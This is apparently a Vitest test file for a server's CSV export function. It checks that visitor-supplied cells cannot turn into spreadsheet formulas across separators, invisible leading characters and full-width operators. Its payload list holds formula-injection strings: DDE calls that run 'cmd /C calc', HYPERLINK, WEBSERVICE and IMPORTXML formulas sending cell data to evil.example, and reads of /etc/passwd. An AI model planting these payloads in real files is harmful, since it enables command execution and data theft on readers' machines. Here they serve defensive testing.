import { describe, expect, it } from 'vitest'
import { csv, type Separator } from '../../../../src/server/files/csv'

/** Formulas that run a program, send the table away, or show a link in a reader's spreadsheet. */
const FORMULAS = [
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"Error")',
  '=WEBSERVICE("http://evil.example/"&A1)',
  '=IMPORTXML("http://evil.example/","//a")',
  "='file:///etc/passwd'#$passwd.A1",
  '=DDE("soffice";"file:///etc/passwd";"A1")',
  '=1+1',
]

/** What precedes a formula: nothing, spaces, invisible characters, or the end of a cell in some country. */
const BEGINNINGS = [
  ...['', ' ', '   ', '\t', '\r', '\n', '\r\n', '\v', '\f', '\u00a0', '\u3000', '\u2009'],
  ...['\u200b', '\u200e', '\u202e', '\u2066', '\ufeff', '\u00ad', '\u2060', '"', '""', '\'"'],
  ...[
    'a;',
    'a,',
    'a\t',
    'a\n',
    'a\r\n',
    'a";',
    'a",',
    'a"\n',
    'a;"',
    'a,"',
    'a\n"',
    'a; ',
    'a\n\u200b',
    ';;',
    '\n\n',
  ],
]

/** Characters that begin a formula, also as wide letters of East Asian keyboards. */
const OPERATORS = ['=', '+', '-', '@', '|', '%', '\uff1d', '\uff0b', '\uff0d', '\uff20']

const TEXTS = [
  ...BEGINNINGS.flatMap((beginning) => FORMULAS.map((formula) => beginning + formula)),
  ...BEGINNINGS.flatMap((beginning) => OPERATORS.map((sign) => `${beginning}${sign}1`)),
]

/** Cells as a spreadsheet reads them that separates by one of the given characters and knows quotes (RFC 4180). */
function cellsOf(text: string, separators: string): readonly string[] {
  const cells: string[] = []
  let cell = ''
  let isQuoted = false
  for (let at = 0; at < text.length; at++) {
    const letter = text[at] ?? ''
    if (letter === '"' && isQuoted && text[at + 1] === '"') cell += text[++at]
    else if (letter === '"' && (isQuoted || cell === '')) isQuoted = !isQuoted
    else if (!isQuoted && (separators.includes(letter) || letter === '\n' || letter === '\r')) {
      cells.push(cell)
      cell = ''
    } else cell += letter
  }
  return [...cells, cell]
}

/** Whether a cell begins with a sign of a formula, once spaces, quotes and invisible characters are trimmed. */
const isFormula = (cell: string) =>
  OPERATORS.some((sign) => cell.replace(/^[\s\p{Cf}\p{Cc}"]+/u, '').startsWith(sign))

describe('a CSV file with formulas from visitors', () => {
  // Excel separates by the list separator of its country, LibreOffice by what it is told, both by the tab if asked.
  it.each<[Separator, string]>([
    [',', ','],
    [',', ';'],
    [',', '\t'],
    [',', ',;\t'],
    [';', ';'],
    [';', ','],
    [';', '\t'],
    [';', ',;\t'],
  ])('separated by %j has none for a spreadsheet that separates by %j', (separator, read) => {
    expect(TEXTS.length).toBeGreaterThan(600)
    for (const text of TEXTS) {
      const rows = csv([['first', text, 'last']], separator)
      expect(cellsOf(rows, read).filter(isFormula), JSON.stringify(text)).toEqual([])
    }
  })

  it('keeps all other characters of the text', () => {
    for (const text of TEXTS) {
      const [, cell = ''] = cellsOf(csv([['first', text, 'last']]), ',')
      expect(cell.replaceAll("'", ''), JSON.stringify(text)).toBe(text.replaceAll("'", ''))
    }
  })

  it('leaves signs within words and sentences as they are', () => {
    const text = 'a-b, c = d; 50 % + x@y.example\nnext line'
    expect(cellsOf(csv([['first', text]]), ',')[1]).toBe(text)
  })
})
